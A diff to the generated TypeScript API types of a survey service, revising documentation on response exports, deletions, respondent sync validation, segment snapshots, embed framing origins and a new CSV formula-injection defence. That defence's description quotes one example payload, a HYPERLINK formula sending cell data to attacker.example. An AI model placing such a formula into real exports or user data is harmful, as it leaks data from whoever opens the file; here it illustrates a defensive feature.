@@ -334,12 +334,19 @@ export interface paths {
          *     export) and stores the file in the service's database, so any server process can serve the download. A job
          *     interrupted by a crash starts its file over; a half-written file is never visible.
          *
-         *     For a nightly pull, chain exports with `sinceExport` (see `Export.watermark`): each response arrives exactly
-         *     once; deleted responses are listed by `GET /api/v1/exports/{exportId}/deletions`.
+         *     The export holds every response acknowledged before this request (it takes a snapshot of the database as it
+         *     accepts the export). For a nightly pull, chain exports with `sinceExport` (see `Export.watermark`): each
+         *     response arrives exactly once; deleted responses are listed by `GET /api/v1/exports/{exportId}/deletions`.
+         *
+         *     CSV files are safe to open in a spreadsheet: user-supplied text that a spreadsheet would evaluate as a
+         *     formula (a leading `=`, `+`, `-`, `@`, tab or carriage return) is prefixed with `'`, and every cell holding
+         *     a line break, quote or separator is quoted. Programs that read the file as data can ask for raw cells with
+         *     `escapeFormulas: false` (see `ExportRequest.escapeFormulas`).
          *
          *     Errors: 400 `validation_failed` (`submittedBefore` not after `submittedAfter`, an unknown question id, `bom`
-         *     with a format other than `csv`, a `sinceExport` that is not a completed export of this survey, both
-         *     `sinceExport` and `submittedAfter`); 404 `not_found`; 409 `idempotency_conflict`.
+         *     or `escapeFormulas` with a format other than `csv`, a `sinceExport` that is not a completed export of this
+         *     survey, both `sinceExport` and `submittedAfter`, a `submittedBefore` that would end before the `sinceExport`
+         *     export does); 404 `not_found`; 409 `idempotency_conflict`.
          */
         post: operations["exportResponses"];
         delete?: never;
@@ -435,13 +442,15 @@ export interface paths {
         };
         /**
          * List responses deleted in an export's window
-         * @description How an integrator learns of deletions: the responses of the export's survey that were **deleted** with a
-         *     deletion time in the export's window (`submittedAfter` inclusive — or from the start — to `watermark`
-         *     exclusive), oldest first, paginated. Deleted responses are never in later files; after importing a file,
-         *     delete these ids from your copy too. With a chain of incremental exports (`sinceExport`), every deletion is
-         *     listed by exactly one export of the chain (the one whose window contains the deletion time), by the same
-         *     rule as `watermark`. A deleted response you never received (submitted and deleted within one window) may be
-         *     listed: ignore unknown ids. Deletions are remembered for 30 days; pull at least that often.
+         * @description How an integrator learns of deletions: the responses of the export's survey whose **deletion** had committed
+         *     when the export's snapshot was taken (see `Export.watermark`) — with a deletion time within
+         *     `submittedAfter`/`submittedBefore` when given — and, for an increment (`sinceExport`), not before the
+         *     previous export's snapshot; oldest first, paginated. Deleted responses are never in later files; after
+         *     importing a file, delete these ids from your copy too. With a chain of incremental exports, every deletion
+         *     is listed by exactly one export of the chain (the first whose snapshot saw it committed), by the same rule
+         *     as the responses. A deleted response you never received (submitted and deleted between two exports, or
+         *     deleted after the snapshot but before the file was written) may be listed: ignore unknown ids. Deletions
+         *     are remembered for 30 days; pull at least that often.
          *
          *     Errors: 404 `not_found`; 409 `invalid_state` while the export has no `watermark` yet (`pending`).
          */
@@ -498,8 +507,10 @@ export interface paths {
          *     together (so that the total minus the shown groups would reveal them), the next smallest group is
          *     suppressed as well. Text answers are only ever counted, never shown.
          *
-         *     **Segments** use the respondent's fields as they were when the survey was sent to them (the distribution's
-         *     snapshot), else the current respondent record — see `SmartAnalyticsSegmentBy`.
+         *     **Segments** use the respondent's fields as they were when they were asked (the snapshot of the
+         *     distribution the response answers, else the record when the response was stored), whatever the channel; a
+         *     later change to a respondent never moves a past answer — see `SmartAnalyticsSegmentBy`. `distributionId`
+         *     counts every response that answers the distribution, through its answer page or through the API.
          *
          *     Errors: 400 `validation_failed` (bad dates, `submittedBefore` not after `submittedAfter`, malformed
          *     `filters`, unknown `segmentBy`, an `outcomeQuestionId` that is not an `nps` or `rating` question); 404 `not_found` (survey, or `distributionId` not a distribution of it).
@@ -651,9 +662,9 @@ export interface paths {
          *     - **participation** — invited, responded and rate, overall and per group;
          *     - **comparison** — the change against the previous distribution or the previous period, when one exists.
          *
-         *     Responses are linked to respondents through `respondentExternalId`; group values come from the
-         *     distribution's snapshot of the respondent when the response came through a distribution, else from the
-         *     current record (see `SmartAnalyticsSegmentBy`). Responses of unknown or anonymous respondents form the group
+         *     Responses are linked to respondents through `respondentExternalId`; group values are the respondent's fields
+         *     as they were when asked: the snapshot of the distribution the response answers, else the record when the
+         *     response was stored (see `SmartAnalyticsSegmentBy`). Responses of unknown or anonymous respondents form the group
          *     whose `value` is `null`.
          *
          *     **Anonymity.** The threshold is the organization's setting for this environment (default 5, never below 3;
@@ -753,7 +764,7 @@ export interface paths {
          *       not send twice: see Asynchronous jobs.
          *
          *     Errors: 400 `validation_failed` (a filter that does not fit, named by its index; a reminder for `link` or
-         *     `embed`; a `schedule` more than a year ahead); 404 `not_found`; 409 `invalid_state` when the survey is
+         *     `embed`; `embedOrigins` with a method other than `embed`; a `schedule` more than a year ahead); 404 `not_found`; 409 `invalid_state` when the survey is
          *     closed, or not `active` and no future `schedule` was given, `idempotency_conflict`.
          */
         post: operations["distributeSurvey"];
@@ -1229,10 +1240,17 @@ export interface paths {
          *     | `append` | inserts new records only; existing ones are skipped untouched |
          *
          *     Rules:
-         *     - The request is checked as a whole (400 `validation_failed` for a missing or unknown `mode`, a non-array
-         *       `respondents`, more than 100,000 records, or a record that is not an object). Each record is then validated
-         *       on its own against `RespondentUpsert` with `externalId` required: a bad record is counted in `stats.errors` and described in `errors`
-         *       (index, externalId, message) — it never fails the whole sync.
+         *     - Only the envelope can make the request a 400 `validation_failed`: a missing or unknown `mode`, a `dryRun`
+         *       that is not a boolean, an unknown member beside them, `respondents` missing, not an array, empty or longer
+         *       than 100,000 records (and the 64 MiB body limit: 413). Every problem of one record is that record's error,
+         *       never the request's: each record is validated on its own by the service, with the validator of
+         *       `PUT /api/v1/respondents/{externalId}` (`RespondentUpsert` with `externalId` required, plus the checks every
+         *       body gets: no NUL character or lone surrogate, nesting up to 32 levels, numbers JSON can carry — `1e400` is
+         *       not one). A wrong type, a format (`2024-02-30`), an unknown field (a top-level `__proto__` too: member names
+         *       are data), an element that is not an object, a NUL, nesting past the limit or `1e400` in one record: the
+         *       request is accepted (202), the other records are applied, and that record is counted in `stats.errors` and
+         *       described in the job's `errors` (and in `respondents.sync.completed`) with `index`, `externalId`, `message`,
+         *       and the `path` and `code` that `PUT` answers in its 400 for the same record alone (its first detail).
          *     - Duplicate `externalId`s in one request: the last occurrence wins, earlier ones count as `skipped` (unvalidated).
          *     - The sync is idempotent on `externalId`: sending the same records again changes nothing more.
          *     - `replace` with no valid record fails the job and deletes nothing.
@@ -2213,7 +2231,12 @@ export interface components {
              * @description When the response was accepted (ISO 8601 UTC).
              */
             submittedAt: string;
-            /** @description The distribution whose answer page received the response (`dst_…`); `null` for responses submitted through the API. */
+            /**
+             * @description The distribution the response answers (`dst_…`): the one whose answer page received it, or, for a response
+             *     submitted through the API with a `respondentExternalId`, the latest distribution of this survey that reached
+             *     that respondent (sent to them) before they answered; its recipient is then marked `responded`. `null` when
+             *     no distribution reached the respondent.
+             */
             distributionId?: string | null;
         };
         /**
@@ -2256,10 +2279,12 @@ export interface components {
          * @description What to export. Without a time window every response of the survey is exported. The window is
          *     `submittedAfter` **inclusive** and `submittedBefore` **exclusive**, as in `listResponses`.
          *
-         *     **Incremental exports.** Every completed export states its `watermark`. To get each response exactly once
-         *     across runs (a nightly job, say), start the next export with `sinceExport` set to the previous export's id
-         *     (or, equivalently, `submittedAfter` set to its `watermark`). See `Export.watermark` for why this is exact even
-         *     while responses keep arriving, and `listExportDeletions` for the responses deleted since.
+         *     Every export holds each response acknowledged (201) before it was requested.
+         *
+         *     **Incremental exports.** To get each response exactly once across runs (a nightly job, say), start the next
+         *     export with `sinceExport` set to the previous export's id: it holds what was committed after the previous
+         *     export's snapshot of the database. See `Export.watermark` for why this is exact even while responses keep
+         *     arriving, and `listExportDeletions` for the responses deleted since.
          */
         ExportRequest: {
             format: components["schemas"]["ExportFormat"];
@@ -2270,12 +2295,15 @@ export interface components {
             submittedAfter?: string;
             /**
              * Format: date-time
-             * @description Only responses submitted before this instant (ISO 8601). Must be later than `submittedAfter`.
+             * @description Only responses submitted before this instant (ISO 8601). Must be later than `submittedAfter` (with `sinceExport`, see there).
              */
             submittedBefore?: string;
             /**
-             * @description Continue after a previous `completed` export of the same survey: the same as `submittedAfter` set to that
-             *     export's `watermark`. 400 `validation_failed` when it is unknown, of another survey, or not completed.
+             * @description Continue after a previous `completed` export of the same survey: the responses committed after that
+             *     export's snapshot of the database (and, when it had a `submittedBefore`, those submitted from then on),
+             *     from the same `submittedAfter` (see `Export.watermark`). 400 `validation_failed` when it is unknown, of
+             *     another survey, or not completed, or when `submittedBefore` is earlier than that export's
+             *     `submittedBefore` (or given when that export had none).
              */
             sinceExport?: string;
             /** @description Only these questions' answers (columns in CSV and XLSX), still in the survey's question order. Every id must be a question of the survey. Default all questions. */
@@ -2291,6 +2319,30 @@ export interface components {
              * @default false
              */
             bom?: boolean;
+            /**
+             * @description Defends a CSV file against formula injection (OWASP "CSV Injection"). Default `true` (when omitted with
+             *     `format` `csv`).
+             *
+             *     Spreadsheet programs evaluate a cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return
+             *     as a formula when they open a CSV file, so an answer such as
+             *     `=HYPERLINK("https://attacker.example/?"&A2,"Details")` would run on the computer of whoever opens the
+             *     export. With `true`, every such cell whose text comes from users — text answers, `respondentExternalId`,
+             *     choice labels and ids, multiple-choice cells, and the question ids in the header — is written with a
+             *     leading `'`, which makes spreadsheets show it as text (the full-width forms `＝`, `＋`, `－`, `＠` count
+             *     too). A text that already starts with apostrophes before one of these characters gets one more, so the rule
+             *     can be undone exactly: remove one `'` from each cell that starts with one or more `'` followed by one of
+             *     these characters. Numbers the service writes (NPS and rating answers) and its own values (`responseId`,
+             *     `submittedAt`) are never changed.
+             *
+             *     Set `false` for programs that read the file as data: every cell is then the raw text. Whatever this option
+             *     says, every cell holding a line feed, a carriage return, a quote, a comma, a semicolon or a tab is quoted,
+             *     so each response is exactly one row whichever line endings the reader accepts.
+             *
+             *     Only with `format` `csv`: sent with any other format (either value) it is refused with 400
+             *     `validation_failed`. JSON and NDJSON hold the raw values, which are data, never evaluated; XLSX writes
+             *     every text as a text cell, never as a formula.
+             */
+            escapeFormulas?: boolean;
         };
         /**
          * @description An asynchronous export of a survey's responses to a file. Poll `GET /api/v1/exports/{exportId}` until
@@ -2318,7 +2370,8 @@ export interface components {
             size: number | null;
             /**
              * Format: date-time
-             * @description The window's inclusive start as requested (or taken from `sinceExport`); `null` for "from the first response".
+             * @description The window's inclusive start as requested; with `sinceExport`, the previous export's `submittedAfter` (a
+             *     chain keeps its start). `null` for "from the first response".
              */
             submittedAfter: string | null;
             /**
@@ -2328,20 +2381,27 @@ export interface components {
             submittedBefore: string | null;
             /**
              * Format: date-time
-             * @description The exclusive end of what this export covers, set when the export starts processing: the file holds every
-             *     response of the survey with `submittedAfter <= submittedAt < watermark` that existed when it was written.
-             *     Start the next incremental export from here (`sinceExport`, or `submittedAfter` = `watermark`).
+             * @description When the export's snapshot of the database was taken — the moment the export was accepted — or
+             *     `submittedBefore` when that is earlier (never before `submittedAfter`); set when the export starts
+             *     processing, `null` before. It is for people: which responses an export holds is decided by that snapshot,
+             *     not by this time.
              *
-             *     **Why this is exact.** `submittedAt` is taken when a response's transaction starts, but a response becomes
-             *     visible only when that transaction commits, a moment later. A watermark of "now" could therefore miss a
-             *     response that commits just after the export reads, with a `submittedAt` before the watermark — and the next
-             *     export, starting at the watermark, would miss it too. So the watermark is never later than the start of the
-             *     oldest database transaction still running when the export begins (less a margin for clock differences
-             *     between servers, one second by default; never later than `submittedBefore`). So a response appears in
-             *     exports about a second after it was submitted. Every response with `submittedAt` before
-             *     it is committed before the export reads; every response committed later has `submittedAt` at or after it and
-             *     belongs to the next export. A chain of exports, each started from the previous `watermark`, therefore
-             *     delivers every response exactly once. `null` until the export is `processing`.
+             *     **What an export holds.** The request takes a snapshot of the database as it accepts the export. The file
+             *     holds every response of the survey (within `submittedAfter`/`submittedBefore` when given) whose
+             *     submission had committed at that moment: every response acknowledged (201) before you requested the
+             *     export is in it, however recently it was submitted. A submission still in progress at that moment — begun,
+             *     not yet acknowledged — is not; it belongs to the next export. No export waits for transactions in progress,
+             *     of your organization or any other. A response deleted between the snapshot and the moment the file is
+             *     written is left out of the file and listed by the next export's deletions.
+             *
+             *     **Incremental exports (exactly once).** Start the next export with `sinceExport` set to this export's
+             *     id: it holds the responses committed after this export's snapshot (and, when this export had a
+             *     `submittedBefore`, those submitted from then on), and nothing this export held. Each response of the survey
+             *     therefore arrives in exactly one export of a chain — the first whose snapshot saw it committed — and each
+             *     deletion is listed by exactly one (`listExportDeletions`). An increment may not end before the export it
+             *     continues (a `submittedBefore` earlier than that export's, or any `submittedBefore` after one without).
+             *     `submittedAfter` = `watermark` is only a time window: it can miss a response whose submission was still
+             *     in progress at the snapshot and was submitted before the watermark; use `sinceExport` for exactness.
              */
             watermark: string | null;
             /**
@@ -2420,12 +2480,14 @@ export interface components {
          *     `under_1_year`, `1_to_2_years`, `2_to_5_years`, `5_to_10_years`, `10_years_or_more` (a band includes its lower
          *     bound: exactly one year after hiring is `1_to_2_years`).
          *
-         *     **Which values count (the snapshot rule).** When a response came in through a distribution, the
-         *     respondent's fields are those stored with that distribution's recipient when it was sent (a snapshot), so a
-         *     later move to another department does not move past answers. Otherwise (responses submitted without a
-         *     distribution, or before distributions existed) the respondent's current record is used. Responses whose
-         *     respondent is unknown (anonymous surveys, an unknown `respondentExternalId`) or has no value form the group
-         *     whose `value` is `null`.
+         *     **Which values count (as asked).** Every response is segmented by its respondent's fields as they were when
+         *     they were asked, whatever the channel: the snapshot of the distribution the response answers (its
+         *     `distributionId`: the answer page's, or for an API submission naming a respondent, the latest distribution of
+         *     the survey that reached them before they answered), else the respondent's record at the moment the response
+         *     was stored, frozen with it. A later change to the respondent — a move, a sync, a deletion — never moves a past
+         *     answer, so earlier reports never change. Responses whose respondent was unknown when they were stored
+         *     (anonymous surveys, an unknown `respondentExternalId`) or had no value form the group whose `value` is
+         *     `null`.
          */
         SmartAnalyticsSegmentBy: string | ("department" | "location" | "jobTitle" | "employmentType" | "managerId" | "tenure");
         /** @description How many answers gave one value of a scale. */
@@ -3194,6 +3256,18 @@ export interface components {
             subject?: string;
             /** @description Plain-text message placed above the personal link in the e-mail (method `email` only). Ignored for other methods. */
             message?: string;
+            /**
+             * @description Method `embed` only (400 `validation_failed` with another method): the web origins allowed to frame the
+             *     answer page, sent as the page's `Content-Security-Policy: frame-ancestors`. Each is
+             *     `https://host[:port]` in lowercase, optionally with a leading `*.` for every subdomain
+             *     (`https://*.intranet.example.com`); `http://localhost[:port]` and `http://127.0.0.1[:port]` are accepted for
+             *     development. Default none: no site can frame the survey until you list yours (the page still opens on its
+             *     own). Personal links of other methods are never frameable.
+             * @example [
+             *       "https://intranet.example.com"
+             *     ]
+             */
+            embedOrigins?: string[];
         };
         /** @description Who receives the survey, and how and when it is sent. */
         DistributionRequest: {
@@ -3251,11 +3325,16 @@ export interface components {
             reminderSentAt: string | null;
             /**
              * @description HTML snippet to embed the survey (method `embed`): an `<iframe>` of the answer page at
-             *     `<base URL>/s/{embed token}`. The shared embed token lets anyone who sees the page answer once per
-             *     browser; to know who answered, put a recipient's personal `link` in the iframe's `src` instead (it
-             *     accepts one response from that person). `null` for other methods, and until the send time.
+             *     `<base URL>/s/{embed token}`, frameable only by `embedOrigins`. The shared embed token lets anyone who
+             *     sees the page answer: once per browser (a cookie), and at most 30 answers per hour from one network
+             *     address and 600 per minute in all (then a 429 page with `Retry-After`). To know who answered, put a
+             *     recipient's personal `link` in the iframe's `src` instead (it accepts one response from that person; the
+             *     personal links of an `embed` distribution are frameable by the same origins). `null` for other methods,
+             *     until the send time, and in the `distribution.sent` event (the token is a credential: read it here).
              */
             embedCode: string | null;
+            /** @description The origins allowed to frame this distribution's answer pages (method `embed`); empty when none may. */
+            embedOrigins: string[];
             /**
              * Format: date-time
              * @description When the distribution was requested (ISO 8601 UTC).
@@ -3742,22 +3821,31 @@ export interface components {
             deleted: number;
         };
         /**
-         * @description Why one record of a sync was rejected.
+         * @description Why one record of a sync was rejected: its first problem, as the first of the details that
+         *     `PUT /api/v1/respondents/{externalId}` answers in its 400 for the same record (same `path` inside the record,
+         *     without `/body`, and same `code`).
          * @example {
          *       "index": 1,
          *       "externalId": "E-10043",
          *       "path": "/email",
+         *       "code": "format",
          *       "message": "must match format \"email\""
          *     }
          */
         SyncRecordError: {
             /** @description Zero-based position of the record in the request's `respondents` array. */
             index: number;
-            /** @description The record's `externalId` when it had a usable one (a string of 1–255 characters), else `null`. */
+            /** @description The record's `externalId` when it had a usable one (a string of 1–255 characters without NUL characters or lone surrogates), else `null`. */
             externalId: string | null;
             /** @description What is wrong, for humans. */
             message: string;
-            /** @description JSON Pointer to the offending field inside the record (for example `/email`); absent when the record as a whole is wrong. */
+            /**
+             * @description Machine-readable reason, the `code` of `ErrorDetail` (open list): for example `format`, `type`,
+             *     `unknown_field`, `required`, `invalid_character`, `too_deep`, `out_of_range`. Present on every error recorded
+             *     since per-record codes were added (absent only on older jobs and events).
+             */
+            code?: string;
+            /** @description JSON Pointer to the offending field inside the record (for example `/email`); absent when the record as a whole is wrong (for example not an object). */
             path?: string;
         };
         /**
@@ -3783,6 +3871,7 @@ export interface components {
          *           "index": 1,
          *           "externalId": "E-10043",
          *           "path": "/email",
+         *           "code": "format",
          *           "message": "must match format \"email\""
          *         }
          *       ],
@@ -4175,15 +4264,20 @@ export interface components {
             attributes?: components["schemas"]["RespondentAttributes"];
         };
         /**
-         * @description Starts a respondent sync. The request is checked as a whole (`mode`, the array, its size, `dryRun`);
-         *     each element of `respondents` is then validated on its own by the worker against
-         *     `RespondentUpsert` (the body of `PUT /api/v1/respondents/{externalId}`) with `externalId` required, so one
-         *     bad record never fails the request: it is counted in `stats.errors` and reported in the job's `errors`.
+         * @description Starts a respondent sync. Only the envelope is checked with the request (`mode`, `dryRun`, `respondents` an
+         *     array of 1 to 100,000 items, no other member, the 64 MiB body limit; 413 `payload_too_large` beyond): only
+         *     these make it a 400. Each element of `respondents` is then validated on its own, by the service, exactly as
+         *     the body of `PUT /api/v1/respondents/{externalId}` is validated (`RespondentUpsert`, with `externalId`
+         *     required, and the same checks of characters, nesting and numbers): every problem of a record — a wrong type,
+         *     a format, an impossible date such as `2024-02-30`, an unknown field, an element that is not an object, a NUL
+         *     character or lone surrogate, a value nested deeper than 32 levels, a number beyond what JSON can carry such as
+         *     `1e400` — is that record's error, counted in `stats.errors` and reported in the job's `errors` with the `path`
+         *     and `code` that `PUT` answers for the same record. One bad record never fails the request.
          *
          *     Duplicate `externalId`s inside one request: the last occurrence wins; earlier ones count as `skipped` without
          *     being validated (if the last one is invalid, it counts as an error and nothing is written for that `externalId`).
-         *     E-mail addresses are stored as sent; filters compare them case-insensitively.
-         *     The body of this route may be up to 64 MiB (413 `payload_too_large` beyond).
+         *     Member names such as `__proto__` are data like any other (an attribute may be named so; at a record's top level
+         *     it is an unknown field). E-mail addresses are stored as sent; filters compare them case-insensitively.
          * @example {
          *       "mode": "upsert",
          *       "dryRun": false,
@@ -4213,8 +4307,8 @@ export interface components {
          */
         SyncRequest: {
             mode: components["schemas"]["SyncMode"];
-            /** @description The records, 1 to 100,000. Each must be an object; its fields are checked per record against `RespondentUpsert`, with `externalId` required. */
-            respondents: Record<string, unknown>[];
+            /** @description The records, 1 to 100,000, each a `RespondentUpsert` with `externalId` required. They are validated one by one by the service, not with the request, so that a bad record is that record's error (see above). */
+            respondents: unknown[];
             /**
              * @description When `true`, the job validates every record and reports the stats it would produce (created, updated, skipped, deleted, errors) but changes nothing.
              * @default false
@@ -4640,8 +4734,8 @@ export interface components {
          * @description Only responses whose respondent matches these conditions: the JSON text (URL-encoded) of an object
          *     `{ "filters": [TargetingFilter, …], "logic": "AND" | "OR" }` — the same filter language, fields and
          *     operators as a distribution's `targeting`. The respondent's fields are read as described under
-         *     "Segments" (the distribution's snapshot when there is one, else the current record); responses without a
-         *     known respondent never match a filter.
+         *     "Segments" (as they were when the respondent was asked: the distribution's snapshot, else the record when
+         *     the response was stored); responses without a known respondent never match a filter.
          *
          *     A result narrowed to fewer respondents than the anonymity threshold is suppressed as a whole
          *     (`suppressed: true`, no figures). Malformed JSON or a condition that breaks the `TargetingFilter` rules gives
@@ -5691,8 +5785,8 @@ export interface operations {
                  * @description Only responses whose respondent matches these conditions: the JSON text (URL-encoded) of an object
                  *     `{ "filters": [TargetingFilter, …], "logic": "AND" | "OR" }` — the same filter language, fields and
                  *     operators as a distribution's `targeting`. The respondent's fields are read as described under
-                 *     "Segments" (the distribution's snapshot when there is one, else the current record); responses without a
-                 *     known respondent never match a filter.
+                 *     "Segments" (as they were when the respondent was asked: the distribution's snapshot, else the record when
+                 *     the response was stored); responses without a known respondent never match a filter.
                  *
                  *     A result narrowed to fewer respondents than the anonymity threshold is suppressed as a whole
                  *     (`suppressed: true`, no figures). Malformed JSON or a condition that breaks the `TargetingFilter` rules gives
@@ -5923,8 +6017,8 @@ export interface operations {
                  * @description Only responses whose respondent matches these conditions: the JSON text (URL-encoded) of an object
                  *     `{ "filters": [TargetingFilter, …], "logic": "AND" | "OR" }` — the same filter language, fields and
                  *     operators as a distribution's `targeting`. The respondent's fields are read as described under
-                 *     "Segments" (the distribution's snapshot when there is one, else the current record); responses without a
-                 *     known respondent never match a filter.
+                 *     "Segments" (as they were when the respondent was asked: the distribution's snapshot, else the record when
+                 *     the response was stored); responses without a known respondent never match a filter.
                  *
                  *     A result narrowed to fewer respondents than the anonymity threshold is suppressed as a whole
                  *     (`suppressed: true`, no figures). Malformed JSON or a condition that breaks the `TargetingFilter` rules gives
